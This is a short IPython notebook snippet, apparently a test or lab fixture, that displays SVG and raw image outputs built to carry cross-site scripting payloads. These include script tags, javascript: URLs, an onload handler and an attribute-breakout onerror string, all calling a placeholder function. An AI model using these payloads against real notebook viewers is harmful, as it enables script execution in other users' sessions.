from IPython.display import SVG, display

body = "<script>academy_attack()</script><a href='javascript:academy_attack()'><text>x</text></a><foreignObject><iframe src='javascript:academy_attack()'/></foreignObject>"
display(SVG(f"<svg xmlns='http://www.w3.org/2000/svg' onload='academy_attack()'>{body}</svg>"))
display({"image/png": "\" onerror=\"academy_attack()\" x=\"", "text/plain": ""}, raw=True)
display({"image/svg+xml": "<svg onload=academy_attack()>", "text/plain": ""}, raw=True)
